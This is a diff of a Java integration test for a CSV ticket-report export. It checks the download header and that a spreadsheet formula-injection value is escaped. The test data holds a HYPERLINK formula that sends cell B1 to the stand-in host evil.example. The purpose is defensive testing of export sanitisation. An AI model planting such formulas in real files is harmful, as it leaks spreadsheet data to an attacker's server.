@@ -110,12 +110,12 @@ class ReportsIT {
                 .statusCode(200)
                 .header(
                         "Content-Disposition",
-                        "attachment; filename=\"tickets " + period.replace("_", " ") + ".csv\"; filename*=UTF-8''tickets%20"
-                                + period.replace("_", "%20") + ".csv")
+                        "attachment; filename=\"tickets " + period.replace("_", " ")
+                                + ".csv\"; filename*=UTF-8''tickets%20" + period.replace("_", "%20") + ".csv")
                 .extract()
                 .asString();
 
-        assertThat(file).contains(team + ",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
+        assertThat(file).contains(team + "\",\"'=HYPERLINK(\"\"https://evil.example/\"\"&B1)\",1,");
     }
 
     @Test
